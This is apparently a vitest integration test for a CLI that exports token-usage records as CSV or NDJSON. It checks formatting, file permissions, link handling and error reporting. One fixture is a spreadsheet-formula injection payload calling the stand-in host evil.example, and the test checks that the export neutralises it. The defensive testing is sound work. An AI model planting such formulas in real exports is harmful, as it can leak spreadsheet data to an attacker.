import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  link as hardLinkTo,
  lstat,
  mkdtemp,
  open,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Database, NewToken, Use } from '@tokenhouse/core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { at, aUse, NOW, storeToken } from '../../../../test/support/samples.ts';
import { BIN } from '../support/run-command.ts';
import { openTestSite, type TestSite } from '../support/test-site.ts';

const HEADER = 'id,at,tokenId,tokenName,userId,outcome,endpoint,ipAddress,userAgent,client,count';

describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s', (name) => {
  let site: TestSite;
  let database: Database;
  let token: NewToken;
  let busy: NewToken;
  let folder: string;
  const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'tokenhouse-export-'));
    site = await openTestSite(name);
    database = await site.openDatabase();
    await database.maintain(NOW);
    token = await storeToken(database.tokens, { name: 'CI, nightly', userId: 'ada' });
    busy = await storeToken(database.tokens, { userId: 'grace' });
    const uses: Use[] = [
      aUse(token.id, { at: at(1), userAgent: formula, client: null }),
      aUse(token.id, { at: at(2), outcome: 'forbidden', ipAddress: '2001:db8::7', userAgent: 'two\nlines' }),
    ];
    for (const use of uses) await database.usage.record(use);
    await Promise.all(
      Array.from({ length: 20_000 }, (_, ms) => database.usage.record(aUse(busy.id, { at: at(ms) }))),
    );
  });
  afterAll(async () => {
    await database.close();
    await site.close();
    await rm(folder, { recursive: true, force: true });
  });

  const exported = (...args: string[]) => site.run(['usage', 'export', ...args]);

  test('--format csv: RFC 4180, RFC 3339 timestamps, and no formulas', async () => {
    const { code, stdout, stderr } = await exported('--token', token.id.toUpperCase(), '--format', 'csv');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    const start = `${token.id},"CI, nightly",ada`;
    const endpoint = 'POST /mcp tools/call whoami';
    expect(stdout.replace(/^\d+,/gm, 'ID,')).toBe(
      [
        HEADER,
        `ID,${at(1).toISOString()},${start},accepted,${endpoint},203.0.113.7,"'${formula.replaceAll('"', '""')}",,1`,
        `ID,${at(2).toISOString()},${start},forbidden,${endpoint},2001:db8::7,"two\nlines",claude-code 2.1.330,1`,
        '',
      ].join('\r\n'),
    );
  });

  test('--format ndjson --output: every use once, in a private file, with progress on stderr', async () => {
    const output = join(folder, 'uses.ndjson');
    const { code, stdout, stderr } = await exported('--format', 'ndjson', '--output', output, '--progress');
    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
    expect(stderr).toMatch(/^20002 rows, \d+ rows\/s\n$/m);
    expect((await stat(output)).mode & 0o777).toBe(0o600);
    const uses = (await readFile(output, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(uses).toHaveLength(20_002);
    expect(new Set(uses.map(({ id }) => id)).size).toBe(20_002);
    const { uses: listed } =
      (await database.usage.listUses('ada', token.id, { limit: 9, cursor: undefined })) ?? {};
    expect(uses.filter(({ tokenId }) => tokenId === token.id).reverse()).toEqual(
      listed?.map((use) => ({
        ...use,
        at: use.at.toISOString(),
        tokenId: token.id,
        tokenName: 'CI, nightly',
        userId: 'ada',
      })),
    );
  });

  test('--output replaces a file of another user or a link, and follows neither', async () => {
    const [old, hardLink, elsewhere, link] = ['old.csv', 'old-too.csv', 'elsewhere.csv', 'link.csv'].map(
      (one) => join(folder, one),
    ) as [string, string, string, string];
    await writeFile(old, 'old', { mode: 0o644 });
    await hardLinkTo(old, hardLink);
    // A process that has it open continues to read the old one.
    const reader = await open(old);
    await writeFile(elsewhere, 'elsewhere', { mode: 0o644 });
    await symlink(elsewhere, link);
    for (const output of [old, link]) {
      expect(await exported('--token', token.id, '--format', 'csv', '--output', output)).toMatchObject({
        code: 0,
      });
      const stats = await lstat(output);
      expect([stats.isFile(), stats.mode & 0o777]).toEqual([true, 0o600]);
      expect(await readFile(output, 'utf8')).toMatch(/^id,at,/);
    }
    expect(await reader.readFile('utf8')).toBe('old');
    expect(await readFile(hardLink, 'utf8')).toBe('old');
    expect(await readFile(elsewhere, 'utf8')).toBe('elsewhere');
    await reader.close();
    expect((await readdir(folder)).filter((file) => file.startsWith('.'))).toEqual([]);
  });

  test('--output writes directly to a pipe, and replaces nothing in /dev', async () => {
    const command = `"${process.execPath}" "${BIN}" usage export --token ${token.id} --format csv --output /dev/stdout | cat`;
    const env = { PATH: process.env['PATH'], ...site.env };
    expect(spawnSync('sh', ['-c', command], { env, encoding: 'utf8' }).stdout).toMatch(/^id,at,/);
    expect((await lstat('/dev/stdout')).isSymbolicLink()).toBe(true);
  });

  test('--since, --until and --user filter; an unknown user or token has no uses', async () => {
    const count = async (...args: string[]) =>
      (await exported('--format', 'ndjson', ...args)).stdout.split('\n').length - 1;
    const [since, until] = [at(10).toISOString(), at(15).toISOString()];
    expect(
      await Promise.all([
        count('--since', since, '--until', until),
        count('--user', 'ada'),
        count('--user', 'ada', '--token', busy.id),
        count('--token', 'nonsense'),
      ]),
    ).toEqual([5, 2, 0, 0]);
  });

  test('exits quietly when the reader of the pipe ends, as head does', async () => {
    const child = spawn(process.execPath, [BIN, 'usage', 'export', '--format', 'csv'], {
      env: { PATH: process.env['PATH'], ...site.env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk) => {
      stderr += chunk;
    });
    child.stdout.once('data', () => child.stdout.destroy());
    expect([await once(child, 'exit'), stderr]).toEqual([[0, null], '']);
  });

  test('reports a failure in one line', async () => {
    const [time, format, folderless] = await Promise.all([
      exported('--since', 'yesterday', '--format', 'csv'),
      exported('--format', 'xml'),
      exported('--format', 'csv', '--output', join(folder, 'none', 'uses.csv')),
    ]);
    expect(time).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/^tokenhouse: --since yesterday .*\n$/),
    });
    expect(format).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/^tokenhouse: .*csv, ndjson.*\n$/),
    });
    expect(folderless).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(/^tokenhouse: Could not write .*\n$/),
    });
  });
});
